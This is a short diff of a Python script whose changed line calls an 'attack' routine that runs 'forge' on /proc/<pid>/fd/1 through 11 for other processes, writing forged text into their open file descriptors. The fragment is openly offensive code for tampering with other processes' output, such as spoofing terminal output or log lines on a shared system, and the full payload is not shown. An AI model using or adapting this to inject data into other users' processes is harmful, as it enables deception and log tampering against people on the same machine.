@@ -22,4 +22,4 @@ def forge(path):
     os.write(fd, lines.encode())
 
 
-attack(*[lambda path=f"/proc/{pid}/fd/{fd}": forge(path) for pid in above() for fd in range(1, 12)])
+attack(*each(others(), lambda pid: [forge(f"/proc/{pid}/fd/{fd}") for fd in range(1, 12)]))
